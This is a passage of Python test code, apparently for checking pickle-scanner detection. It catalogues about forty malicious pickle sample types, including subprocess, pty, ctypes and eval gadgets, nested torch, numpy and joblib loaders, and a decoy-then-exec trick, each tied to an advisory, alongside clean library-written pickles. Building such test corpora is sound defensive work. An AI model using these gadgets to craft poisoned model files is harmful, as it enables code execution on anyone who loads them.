            "bdb_bdb_run", ".pkl", "bdb.Bdb().run(source)", gh + "GHSA-4675-36f9-wf6r", b(_bdb_run)
        ),
        _Mal(
            "cprofile_run",
            ".pkl",
            "cProfile.run(source)",
            gh + "GHSA-7wx9-6375-f5wh",
            b(_cprofile_run),
        ),
        _Mal(
            "profile_run",
            ".pkl",
            "profile.run(source)",
            gh + "GHSA-7wx9-6375-f5wh",
            b(_profile_run),
        ),
        _Mal(
            "timeit_timeit_setup",
            ".pkl",
            "timeit.timeit('pass', setup=source)",
            "picklescan GHSA-v7x6-rv5q-mhwc",
            b(_timeit),
        ),
        _Mal(
            "trace_trace_run",
            ".pkl",
            "trace.Trace(0, 0).run(source)",
            gh + "GHSA-4675-36f9-wf6r",
            b(_trace_run),
        ),
        _Mal(
            "pdb_run",
            ".pkl",
            "pdb.run(source)",
            gh + "GHSA-4675-36f9-wf6r",
            b(_pdb_run),
            trigger="pickle_stdin_continue",
        ),
        _Mal(
            "code_interactiveinterpreter_runsource",
            ".pkl",
            "code.InteractiveInterpreter().runsource(source)",
            "fickling UNSAFE_IMPORTS (code)",
            b(_code_interp),
        ),
        _Mal(
            "ctypes_cdll_system",
            ".pkl",
            "getattr(ctypes.CDLL(None), 'system')(cmd)",
            "modelscan unsafe globals (ctypes)",
            b(_ctypes_system),
        ),
        _Mal(
            "asyncio_create_subprocess_exec",
            ".pkl",
            "asyncio.run(asyncio.create_subprocess_exec('touch', canary))",
            "CVE-2025-10157 (JFrog: asyncio subprocess in picklescan)",
            b(_asyncio_subprocess),
        ),
        _Mal(
            "pty_spawn", ".pkl", "pty.spawn(argv)", "modelscan unsafe globals (pty)", b(_pty_spawn)
        ),
        _Mal(
            "_posixsubprocess_fork_exec",
            ".pkl",
            "_posixsubprocess.fork_exec (3.11 signature)",
            "picklescan GHSA-x843-g5mx-g377 class (private subprocess internals)",
            b(_posixsubprocess),
        ),
        _Mal(
            "pip_main_log",
            ".pkl",
            "pip.main(['--log', canary, '--version'])",
            "CVE-2025-1716 / ModelAudit PR #598",
            b(_pip_main),
        ),
        _Mal(
            "ensurepip__run_pip",
            ".pkl",
            "ensurepip._run_pip(args) spawns pip",
            gh + "GHSA-xp4f-hrf8-rxw7",
            b(_ensurepip_run_pip),
        ),
        _Mal(
            "numpy_testing_runstring",
            ".pkl",
            "numpy.testing._private.utils.runstring(source, {})",
            "fickling UNSAFE_IMPORTS (numpy runstring)",
            b(_numpy_runstring),
        ),
        _Mal(
            "torch_load_nested",
            ".pkl",
            "torch.load(BytesIO(evil zip), None, pickle) inside a pickle",
            "nested loaders; picklescan GHSA-84r2-jw7c-4r5q class",
            b(_torch_load_nested),
        ),
        _Mal(
            "torch_storage__load_from_bytes",
            ".pkl",
            "torch.storage._load_from_bytes(evil zip): torch-namespace unsafe nested load",
            "torch.storage._load_from_bytes uses weights_only=False",
            b(_torch_load_from_bytes),
        ),
        _Mal(
            "numpy_load_nested",
            ".pkl",
            "numpy.load(BytesIO(object .npy), None, True)",
            "nested loaders (numpy.load allow_pickle)",
            b(_numpy_load_nested),
        ),
        _Mal(
            "joblib_load_nested",
            ".pkl",
            "joblib.load(BytesIO(payload))",
            "nested loaders (joblib.load)",
            b(_joblib_load_nested),
        ),
        _Mal(
            "pickle_loads_nested",
            ".pkl",
            "pickle.loads(payload bytes)",
            gh + "GHSA-84r2-jw7c-4r5q",
            b(_pickle_loads_nested),
        ),
        _Mal(
            "_pickle_loads_base64",
            ".pkl",
            "_pickle.loads(base64.b64decode(...))",
            gh + "GHSA-84r2-jw7c-4r5q",
            b(_pickle_loads_base64),
        ),
        _Mal(
            "shutil_copyfile_tamper",
            ".pkl",
            "shutil.copyfile(devnull, target) overwrites a file",
            "CVE-2025-10156 class (file handling, fickling PR #210)",
            b(_shutil_copyfile),
        ),
        _Mal(
            "os_mkdir_tamper",
            ".pkl",
            "os.mkdir(target)",
            "modelscan unsafe globals (os.*)",
            b(_os_mkdir),
        ),
        _Mal(
            "os_open_o_creat",
            ".pkl",
            "os.open(target, O_CREAT|O_WRONLY)",
            "modelscan unsafe globals (os.*)",
            b(_os_open_creat),
        ),
        _Mal(
            "_io_fileio_write",
            ".pkl",
            "_io.FileIO(target, 'w')",
            "fickling PR #210 (_io.FileIO)",
            b(_io_fileio),
        ),
        _Mal(
            "builtins_open_write",
            ".pkl",
            "builtins.open(target, 'w')",
            "modelscan unsafe globals (builtins.open)",
            b(_builtins_open),
        ),
        _Mal(
            "socket_unix_bind",
            ".pkl",
            "socket.socket(AF_UNIX).bind(path)",
            gh + "GHSA-hgrh-qx5j-jfwx (network modules)",
            b(_socket_bind),
        ),
        _Mal(
            "webbrowser_genericbrowser",
            ".pkl",
            "webbrowser.GenericBrowser(['touch', c]).open(url)",
            "modelscan unsafe globals (webbrowser)",
            b(_webbrowser),
        ),
        _Mal(
            "urllib_urlretrieve",
            ".pkl",
            "urllib.request.urlretrieve(file URL, target)",
            gh + "GHSA-hgrh-qx5j-jfwx",
            b(_urlretrieve),
        ),
        _Mal(
            "builtins_eval_compile",
            ".pkl",
            "eval(compile(source, '<s>', 'exec'))",
            "fickling UNSAFE_IMPORTS (compile)",
            b(_eval_compile),
        ),
        _Mal(
            "sys_modules_getitem",
            ".pkl",
            "_operator.getitem(sys.modules, 'os') + getattr",
            gh + "GHSA-955r-x9j8-7rhh",
            b(_sys_modules_getitem),
        ),
        _Mal(
            "subprocess_popen",
            ".pkl",
            "subprocess.Popen(argv)",
            "modelscan unsafe globals",
            b(_subprocess_popen),
        ),
        _Mal(
            "subprocess_check_output",
            ".pkl",
            "subprocess.check_output(argv)",
            "picklescan _unsafe_globals subprocess",
            b(_subprocess_check_output),
        ),
        _Mal("os_popen", ".pkl", "os.popen(cmd)", "picklescan _unsafe_globals os", b(_os_popen)),
        _Mal(
            "os_posix_spawnp",
            ".pkl",
            "os.posix_spawnp('touch', argv, {})",
            "picklescan _unsafe_globals os",
            b(_posix_spawnp),
        ),
        _Mal(
            "doctest_run_docstring_examples",
            ".pkl",
            "doctest.run_docstring_examples('>>> src', {})",
            "fickling PR #210 (doctest)",
            b(_doctest),
        ),
        _Mal(
            "venv_create",
            ".pkl",
            "venv.create(target)",
            gh + "GHSA-vqmv-47xg-9wpr",
            b(_venv_create),
        ),
        _Mal(
            "mailcap_findmatch",
            ".pkl",
            "mailcap.findmatch runs the entry's test command",
            "modelscan PR #346",
            b(_mailcap_findmatch),
        ),
        _Mal(
            "torch_rebuild_decoy_then_exec",
            ".pkl",
            "allowlisted torch/collections calls first, exec afterwards",
            "scanners that stop at the first known global",
            b(_rebuild_tensor_decoy),
        ),
        _Mal(
            "payload_inside_state_dict_value",
            ".pkl",
            "exec call nested as a dict value",
            "JFrog 'Data scientists targeted by malicious Hugging Face ML models'",
            b(_reduce_in_dict_value),
        ),
    ]


def malicious() -> list[_Mal]:
    """The malicious samples of this family."""
    return [
        *_opcode_encodings(),
        *_stream_structure(),
        *_name_resolution(),
        *_dangerous_callables(),
    ]


def clean() -> list[_Clean]:
    """The clean samples of this family (written by the real libraries)."""
    return [
        _Clean(
            "numpy_objects", ".pkl", "pickle of numpy arrays/scalars/dtypes", _pdump(_np_arrays, 4)
        ),
        _Clean("numpy_randomstate", ".pkl", "pickle of numpy RandomState", _pdump(_np_random, 4)),
        _Clean(
            "numpy_datetime64",
            ".pkl",
            "pickle of numpy datetime64/timedelta64",
            _pdump(_np_datetime, 2),
        ),
        _Clean(
            "python_random_state",
            ".pkl",
            "pickle of random.Random.getstate()",
            _pdump(_py_random, 4),
        ),
        *[
            _Clean(
                f"python_stdlib_objects_protocol_{n}",
                ".pkl",
                f"pickle.dumps protocol {n}",
                _pdump(_stdlib_objects, n),
            )
            for n in range(6)
        ],
        _Clean(
            "numpy_masked_matrix_record",
            ".pkl",
            "pickle of numpy masked array/matrix/recarray",
            _pdump(_np_masked, 2),
        ),
    ]
